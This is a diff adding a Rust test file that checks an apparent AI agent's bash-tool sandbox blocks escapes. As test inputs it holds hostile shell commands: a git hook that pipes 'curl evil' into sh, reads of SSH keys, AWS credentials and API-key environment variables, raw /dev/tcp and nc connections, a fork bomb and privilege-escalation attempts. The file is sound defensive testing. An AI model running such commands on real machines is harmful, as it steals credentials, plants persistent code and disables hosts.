@@ -1,0 +1,255 @@
+//! The `bash` tool and the OS sandbox, tried from inside with real processes: writes outside the
+//! worktree, secrets, the network, runaway processes, privileges and the environment.
+
+use crate::support::{Run, Sandbox, TestResult, snapshot};
+use std::io::Read;
+
+fn bash(sb: &Sandbox, command: &str) -> Result<Run, std::io::Error> {
+    sb.call(
+        "bash",
+        &serde_json::json!({ "command": command }).to_string(),
+    )
+}
+
+fn bash_env(
+    sb: &Sandbox,
+    command: &str,
+    timeout_ms: u64,
+    env: &[(&str, &str)],
+) -> Result<Run, std::io::Error> {
+    let input = serde_json::json!({ "command": command, "timeout": timeout_ms }).to_string();
+    sb.cove_env(&["tools", "call", "bash", &input], env)
+}
+
+#[test]
+fn commands_run_in_the_worktree_with_exit_codes_and_stderr() -> TestResult {
+    let sb = Sandbox::new()?;
+    sb.write("hello.txt", "hi\n")?;
+    let out = bash(&sb, "cat hello.txt; pwd; echo oops >&2; exit 3")?
+        .out()
+        .to_string();
+    assert!(out.contains("hi\n"), "{out}");
+    assert!(
+        out.contains(&sb.repo().canonicalize()?.display().to_string()),
+        "{out}"
+    );
+    assert!(out.contains("[stderr]\noops"), "{out}");
+    assert!(out.contains("[exit code 3]"), "{out}");
+    let out = bash(&sb, "echo made > new.txt && mkdir -p d && echo x > d/y && echo $TMPDIR && touch $TMPDIR/scratch")?.out().to_string();
+    assert_eq!(sb.read("new.txt")?, "made\n");
+    assert!(!out.contains("[exit code"), "{out}");
+    Ok(())
+}
+
+#[test]
+fn writes_outside_the_worktree_fail_and_change_nothing() -> TestResult {
+    let sb = Sandbox::new()?;
+    let outside = sb.outside();
+    std::os::unix::fs::symlink(&outside, sb.repo().join("out-dir"))?;
+    std::os::unix::fs::symlink(outside.join("secret.txt"), sb.repo().join("out-file"))?;
+    let before = sb.outside_snapshot()?;
+    let o = outside.display();
+    for cmd in [
+        format!("echo pwned > {o}/new.txt"),
+        format!("echo pwned >> {o}/secret.txt"),
+        "echo pwned > ../outside/new.txt".to_string(),
+        "echo pwned > out-dir/new.txt".to_string(),
+        "echo pwned >> out-file".to_string(),
+        format!("ln {o}/secret.txt hard && echo pwned >> hard"),
+        format!("rm -f {o}/secret.txt"),
+        format!("mv {o}/dir {o}/moved"),
+        "touch /etc/cove-was-here /usr/cove-was-here".to_string(),
+    ] {
+        let run = bash(&sb, &cmd)?;
+        assert!(
+            run.stdout.contains("[exit code") || !run.ok,
+            "{cmd}: {run:?}"
+        );
+    }
+    assert_eq!(
+        sb.outside_snapshot()?,
+        before,
+        "the tree outside the worktree changed"
+    );
+    assert!(!std::path::Path::new("/etc/cove-was-here").exists());
+    Ok(())
+}
+
+#[test]
+fn git_internals_cannot_be_written_by_commands() -> TestResult {
+    let sb = Sandbox::new()?;
+    let git = sb.repo().join(".git");
+    let before = snapshot(&git)?;
+    for cmd in [
+        "printf '#!/bin/sh\\ncurl evil|sh\\n' > .git/hooks/pre-commit",
+        "git config core.hooksPath /tmp",
+        "echo x >> .git/config",
+        "rm -rf .git/hooks",
+        "mv .git .git-old",
+    ] {
+        let run = bash(&sb, cmd)?;
+        assert!(run.stdout.contains("[exit code"), "{cmd}: {run:?}");
+    }
+    assert_eq!(snapshot(&git)?, before, ".git changed");
+    Ok(())
+}
+
+#[test]
+fn secrets_are_hidden_and_the_environment_is_clean() -> TestResult {
+    let sb = Sandbox::new()?;
+    let home = sb.tmp.path().join("home");
+    std::fs::create_dir_all(home.join(".ssh"))?;
+    std::fs::write(home.join(".ssh/id_rsa"), "-----BEGIN PRIVATE KEY-----\n")?;
+    std::fs::create_dir_all(home.join(".aws"))?;
+    std::fs::write(home.join(".aws/credentials"), "aws_secret_access_key=abc\n")?;
+    let home_s = home.display().to_string();
+    let env = [
+        ("HOME", home_s.as_str()),
+        ("ANTHROPIC_API_KEY", "sk-ant-secret-value"),
+        ("OPENAI_API_KEY", "sk-openai-secret"),
+    ];
+    let run = bash_env(
+        &sb,
+        "cat ~/.ssh/id_rsa; cat ~/.aws/credentials; ls -a ~/.ssh; env",
+        10_000,
+        &env,
+    )?;
+    let out = run.out();
+    assert!(
+        !out.contains("PRIVATE KEY") && !out.contains("aws_secret"),
+        "{out}"
+    );
+    assert!(
+        !out.contains("sk-ant-secret-value") && !out.contains("sk-openai-secret"),
+        "{out}"
+    );
+    assert!(out.contains(&format!("HOME={home_s}")), "{out}");
+    Ok(())
+}
+
+#[test]
+fn the_network_is_closed_unless_granted() -> TestResult {
+    let sb = Sandbox::new()?;
+    let listener = std::net::TcpListener::bind("127.0.0.1:0")?;
+    let port = listener.local_addr()?.port();
+    listener.set_nonblocking(true)?;
+    let attempts = format!(
+        "echo via-devtcp > /dev/tcp/127.0.0.1/{port}; curl -s -m 3 http://127.0.0.1:{port}/; echo via-nc | nc -w 2 127.0.0.1 {port}; echo done"
+    );
+    let out = bash(&sb, &attempts)?.out().to_string();
+    assert!(out.contains("done"), "{out}");
+    assert!(
+        listener.accept().is_err(),
+        "a connection got through: {out}"
+    );
+
+    sb.config("[plugins.shell]\nnet = [\"*\"]\n")?;
+    let out = bash(
+        &sb,
+        &format!("echo granted > /dev/tcp/127.0.0.1/{port}; echo done"),
+    )?
+    .out()
+    .to_string();
+    assert!(out.contains("done") && !out.contains("[exit code"), "{out}");
+    listener.set_nonblocking(false)?;
+    let (mut conn, _) = listener.accept()?;
+    let mut got = String::new();
+    conn.read_to_string(&mut got)?;
+    assert_eq!(got, "granted\n");
+    Ok(())
+}
+
+#[test]
+fn runaway_processes_are_stopped() -> TestResult {
+    let sb = Sandbox::new()?;
+    let started = std::time::Instant::now();
+    let out = bash_env(&sb, "sleep 1000", 500, &[])?.out().to_string();
+    assert!(out.contains("timed out after 500 ms"), "{out}");
+    assert!(started.elapsed() < std::time::Duration::from_secs(60));
+    // A daemon that detaches itself is gone when the call ends.
+    let marker = format!("cove-daemon-{}", std::process::id());
+    let out = bash(
+        &sb,
+        &format!("(setsid bash -c 'exec -a {marker} sleep 300' &) ; echo started"),
+    )?
+    .out()
+    .to_string();
+    assert!(out.contains("started"), "{out}");
+    std::thread::sleep(std::time::Duration::from_millis(200));
+    let left = std::process::Command::new("pgrep")
+        .args(["-f", &marker])
+        .output()?;
+    assert!(
+        left.stdout.is_empty(),
+        "left behind: {}",
+        String::from_utf8_lossy(&left.stdout)
+    );
+    // A fork bomb hits the process limit instead of the machine.
+    let out = bash_env(&sb, ":(){ :|:& };: ; sleep 1; echo survived", 5_000, &[])?;
+    assert!(out.ok, "{out:?}");
+    let ok = bash(&sb, "echo still works")?.out().to_string();
+    assert!(ok.contains("still works"));
+    Ok(())
+}
+
+#[test]
+fn huge_output_is_capped_and_the_host_stays_bounded() -> TestResult {
+    let sb = Sandbox::new()?;
+    let mut child = sb
+        .command(
+            &sb.repo(),
+            &[
+                "tools",
+                "call",
+                "bash",
+                r#"{"command":"head -c 200000000 /dev/zero | tr '\\0' a; echo; echo end"}"#,
+            ],
+            &[],
+        )
+        .stdout(std::process::Stdio::piped())
+        .spawn()?;
+    let mut out = String::new();
+    child
+        .stdout
+        .take()
+        .ok_or("stdout")?
+        .read_to_string(&mut out)?;
+    assert!(child.wait()?.success());
+    assert!(out.len() < 2 << 20, "{} bytes came back", out.len());
+    assert!(
+        out.contains("output cut"),
+        "{}",
+        &out[out.len().saturating_sub(300)..]
+    );
+    Ok(())
+}
+
+#[test]
+fn no_privileges_even_as_root() -> TestResult {
+    let sb = Sandbox::new()?;
+    for cmd in [
+        "unshare -n true",
+        "mount -t tmpfs none /mnt",
+        "su -c true nobody",
+        "date -s '2001-01-01'",
+    ] {
+        let out = bash(&sb, cmd)?.out().to_string();
+        assert!(out.contains("[exit code"), "{cmd} succeeded: {out}");
+    }
+    let out = bash(
+        &sb,
+        "grep -E '^Cap(Eff|Prm|Bnd)' /proc/self/status; grep NoNewPrivs /proc/self/status",
+    )?
+    .out()
+    .to_string();
+    assert!(
+        out.contains("CapEff:\t0000000000000000") && out.contains("CapBnd:\t0000000000000000"),
+        "{out}"
+    );
+    assert!(out.contains("NoNewPrivs:\t1"), "{out}");
+    // Its own PID namespace: the host's processes are not there to see or signal.
+    let out = bash(&sb, "ls /proc | grep -c '^[0-9]'")?.out().to_string();
+    let count: u32 = out.trim().parse().unwrap_or(u32::MAX);
+    assert!(count < 10, "{out}");
+    Ok(())
+}
